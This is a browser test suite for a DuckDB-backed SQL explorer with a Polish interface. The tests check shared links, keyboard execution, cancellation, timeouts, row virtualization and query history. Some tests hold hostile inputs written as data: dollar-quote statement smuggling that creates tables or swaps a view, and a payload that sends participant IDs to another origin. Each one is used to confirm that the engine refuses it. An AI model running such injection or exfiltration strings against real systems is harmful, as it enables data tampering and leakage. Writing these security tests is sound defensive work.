// The SQL explorer in real Chromium: a shared link reproduces its result, Ctrl+Enter runs and records the query in
// the URL, refused and failing statements say why and change nothing, and 100,000 rows stay a few dozen in the page.
import { afterEach, describe, expect, inject, it } from 'vitest';
import { openPage, plain, type OpenedPage } from './browser';

let opened: OpenedPage | undefined;
afterEach(async () => {
	await opened?.close();
	opened = undefined;
});

const link = (sql: string) => `/sql/?q=${encodeURIComponent(sql)}`;
const count = async (o: OpenedPage) => plain(await o.page.getByTestId('result-count').textContent({ timeout: 45_000 }));
const editor = (o: OpenedPage) => o.page.locator('.cm-content');

async function typeQuery(o: OpenedPage, sql: string) {
	await editor(o).click();
	await o.page.keyboard.press('Control+A');
	await o.page.keyboard.press('Delete');
	await o.page.keyboard.insertText(sql);
}

describe('SQL explorer', () => {
	it('opens a shared query with its result, and runs a typed one with Ctrl+Enter into the URL', async () => {
		opened = await openPage(link('SELECT centre_id, count(*) AS n FROM participants GROUP BY ALL ORDER BY ALL'));
		const o = opened;
		// Counted from participant rows, so the result says it is synthetic.
		expect(await count(o)).toMatch(/^5 wierszy w \d+ ms syntetyczne$/);
		expect(plain(await o.page.locator('.scroller tbody').textContent())).toContain('lezajsk25');

		await typeQuery(o, 'SELECT count(*) AS n FROM support');
		await o.page.keyboard.press('Control+Enter');
		await o.page.waitForURL(/q=SELECT%20count/);
		await expect.poll(() => count(o)).toMatch(/^1 wiersz w/);
		expect(plain(await o.page.locator('.scroller tbody').textContent())).toBe('333');

		await o.page.goBack();
		await expect.poll(() => count(o)).toMatch(/^5 wierszy/);
		expect(o.consoleErrors).toEqual([]);
		expect(o.offOriginRequests).toEqual([]);
	});

	it('refuses a statement that would change the data, shows DuckDB errors, and the data stays as loaded', async () => {
		opened = await openPage(link('DROP TABLE participants'));
		const o = opened;
		await o.page.waitForSelector('[role="alert"]');
		// The explorer's own refusal says so; it is not DuckDB's error.
		expect(plain(await o.page.locator('.sql-error').textContent())).toMatch(/^Eksplorator odrzuca zapytanie:.*DROP/);

		await typeQuery(o, 'SELECT * FROM no_such_table');
		await o.page.keyboard.press('Control+Enter');
		await expect.poll(async () => plain(await o.page.locator('.sql-error').textContent())).toContain('no_such_table');

		await typeQuery(o, 'SELECT count(*) AS n FROM participants');
		await o.page.keyboard.press('Control+Enter');
		await expect.poll(() => count(o)).toMatch(/^1 wiersz/);
		expect(plain(await o.page.locator('.scroller tbody').textContent())).toBe('98');
	});

	it('a link cannot write, whatever it hides behind quotes: the engine refuses it and nothing is created', async () => {
		opened = await openPage(link("SELECT $$'$$ AS a; CREATE TABLE pwn AS SELECT 42 AS x; SELECT $$'$$ AS b"));
		const o = opened;
		await expect.poll(async () => o.page.locator('.sql-error').getAttribute('data-failure'), { timeout: 45_000 }).toBe('engine');
		// Inside the explorer's subquery a second statement is a syntax error; prepared, it would be "multiple statements".
		expect(plain(await o.page.locator('.sql-error').textContent())).toMatch(/syntax error at or near ";"|multiple statements/);

		await typeQuery(o, 'SELECT * FROM pwn');
		await o.page.keyboard.press('Control+Enter');
		await expect.poll(async () => plain(await o.page.locator('.sql-error').textContent())).toContain('pwn does not exist');
	});

	it('a link cannot reach another origin, by any spelling: the engine refuses and the other server hears nothing', async () => {
		const other = inject('otherOrigin');
		const host = other.replace('http://', '');
		const attempts = [
			`SELECT * FROM "read_csv"('http:/' || '/${host}/a.csv')`,
			`SELECT * FROM '${other}/b.csv'`,
			`SELECT $$'$$ AS a; SET VARIABLE u = '${other}/own?d=' || (SELECT string_agg(participant_id, ',') FROM participants); SELECT $$'$$ AS b`,
			`SELECT * FROM read_csv(getvariable('u'))`
		];
		opened = await openPage(link(attempts[0]));
		const o = opened;
		await expect.poll(async () => o.page.locator('.sql-error').getAttribute('data-failure'), { timeout: 45_000 }).toBe('engine');
		expect(plain(await o.page.locator('.sql-error').textContent())).toContain('disabled by configuration');
		for (const sql of attempts.slice(1)) {
			await typeQuery(o, sql);
			await o.page.keyboard.press('Control+Enter');
			await expect.poll(async () => plain(await o.page.locator('.sql-error').textContent())).not.toBe('');
			expect(await o.page.locator('.sql-error').getAttribute('data-failure'), sql).toMatch(/engine|refused/);
		}
		expect(await (await fetch(`${other}/__hits`)).json(), 'requests that reached the other origin').toEqual([]);
		expect(o.offOriginRequests).toEqual([]);
	});

	it("a link cannot change what the dashboard shows, and a query's engine is not the dashboard's", async () => {
		const overviewTable = async (o: OpenedPage) => {
			await o.page.waitForSelector('[data-source="duckdb"]', { timeout: 45_000 });
			return plain(await o.page.locator('table').first().textContent());
		};
		opened = await openPage('/');
		const before = await overviewTable(opened);
		await opened.close();

		opened = await openPage(
			link("SELECT $$'$$; CREATE OR REPLACE TEMP VIEW participants AS SELECT * REPLACE (true AS outcome_employed) FROM memory.main.participants; SELECT $$'$$")
		);
		const o = opened;
		await expect.poll(async () => o.page.locator('.sql-error').getAttribute('data-failure'), { timeout: 45_000 }).toBe('engine');
		// Even an unconfined statement would land in the explorer's own engine: the overview is asked of another.
		await o.page.getByRole('link', { name: 'Przegląd' }).click();
		expect(await overviewTable(o)).toBe(before);
	});

	it('a long query can be cancelled or timed out, and the dashboard answers while it runs', async () => {
		opened = await openPage(link('SELECT count(*) AS n FROM range(1000000000000)'));
		const o = opened;
		await o.page.getByTestId('explorer-running').waitFor({ timeout: 45_000 });
		// Away to the overview: the dashboard's own engine answers while the explorer's is busy.
		await o.page.getByRole('link', { name: 'Przegląd' }).click();
		await o.page.waitForSelector('[data-source="duckdb"]', { timeout: 45_000 });
		await o.page.goBack();
		await o.page.getByTestId('explorer-running').waitFor();
		await o.page.getByRole('button', { name: 'Przerwij' }).click();
		await expect.poll(async () => o.page.locator('.sql-error').getAttribute('data-failure')).toBe('cancelled');

		await typeQuery(o, 'SELECT 42 AS answer');
		await o.page.keyboard.press('Control+Enter');
		await expect.poll(() => count(o), { timeout: 45_000 }).toMatch(/^1 wiersz/);

		// The shortest time limit ends the same query by itself.
		await o.page.getByLabel('Limit czasu').selectOption('5');
		await typeQuery(o, 'SELECT count(*) AS n FROM range(1000000000000)');
		await o.page.keyboard.press('Control+Enter');
		await expect.poll(async () => o.page.locator('.sql-error').getAttribute('data-failure'), { timeout: 30_000 }).toBe('timeout');
		expect(plain(await o.page.locator('.sql-error').textContent())).toContain('dłużej niż 5 s');
		expect(o.consoleErrors).toEqual([]);
	});

	it('keeps 100,000 rows smooth: a few dozen in the page, the last one reachable by scrolling', async () => {
		opened = await openPage(link('SELECT i, i * 2 AS doubled FROM range(100000) t(i)'));
		const o = opened;
		expect(await count(o)).toMatch(/^100 000 wierszy/);
		const rendered = await o.page.locator('.scroller tbody tr[data-row]').count();
		expect(rendered).toBeGreaterThan(10);
		expect(rendered).toBeLessThan(100);
		expect(await o.page.locator('.scroller table').getAttribute('aria-rowcount')).toBe('100001');
		await o.page.locator('.scroller').evaluate((box) => box.scrollTo(0, box.scrollHeight));
		await expect.poll(() => o.page.locator('.scroller tbody tr[data-row="99999"]').count()).toBe(1);
		expect(plain(await o.page.locator('.scroller tbody tr[data-row="99999"]').textContent())).toBe('99 999199 998');
	});

	it('keeps the query history in this browser across a reload', async () => {
		opened = await openPage(link('SELECT 42 AS answer'));
		const o = opened;
		expect(await count(o)).toMatch(/^1 wiersz/);
		await o.page.reload();
		await o.page.getByText('Historia zapytań').click();
		expect(plain(await o.page.locator('.history').first().textContent())).toBe('SELECT 42 AS answer');
	});
});
